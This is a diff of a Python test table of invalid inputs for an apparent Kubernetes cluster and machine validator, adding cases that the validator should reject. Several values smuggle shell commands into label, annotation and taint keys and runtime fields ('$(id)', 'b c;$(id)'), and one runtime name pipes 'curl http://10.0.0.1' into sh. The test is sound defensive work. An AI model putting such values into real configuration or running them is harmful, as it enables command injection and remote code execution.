@@ -207,7 +207,33 @@ BAD: dict[str, Bad] = {
     "Cluster name too long": Bad("cluster", {"metadata.name": "a" * 64}, "metadata.name", "metadata.name"),
     "name in capitals": Bad("machine", {"metadata.name": "One"}, "metadata.name", ""),
     "label value too long": Bad("set", {f"{_LABELS}.extra": "a" * 64}, f"{_LABELS}[extra]", f"{_LABELS}.extra"),
-    "label key with a space": Bad("set", {f"{_LABELS}.a b": "x"}, f"{_LABELS}[a b]", ""),
+    "label key with a space": Bad("set", {f"{_LABELS}.a b": "x"}, f"{_LABELS}[a b]", _LABELS),
+    "label key with a command": Bad("set", {f"{_LABELS}.b c;$(id)": "x"}, f"{_LABELS}[b c;$(id)]", _LABELS),
+    "label key of the Node with a space": Bad(
+        "machine", {"spec.metadata": {"labels": {"a b": "x"}}}, "spec.metadata.labels[a b]", "spec.metadata.labels"
+    ),
+    "annotation key with a command": Bad(
+        "machine",
+        {"spec.metadata": {"annotations": {"$(id)": "x"}}},
+        "spec.metadata.annotations[$(id)]",
+        "spec.metadata.annotations",
+    ),
+    "taint key with a command": Bad(
+        "machine",
+        {"spec.taints": [{"key": "b c;$(id)", "effect": "NoSchedule"}]},
+        "spec.taints[0].key",
+        "spec.taints[0].key",
+    ),
+    "container runtime with a command": both(
+        "machine", "spec.versions.containerRuntime.name", "x; curl http://10.0.0.1 | sh #"
+    ),
+    "version of a container runtime with a command": Bad(
+        "machine",
+        {"spec.versions.containerRuntime": {"name": "containerd", "version": "$(id)"}},
+        "spec.versions.containerRuntime.version",
+        "spec.versions.containerRuntime.version",
+    ),
+    "configuration of a size that no text may have": both("machine", "spec.providerConfig", "x" * 32769),
     "kubelet that is no version": both("machine", "spec.versions.kubelet", "latest"),
     "versions without kubelet": Bad(
         "machine", {"spec.versions": {"controlPlane": "1.32.4"}}, "", "spec.versions.kubelet"
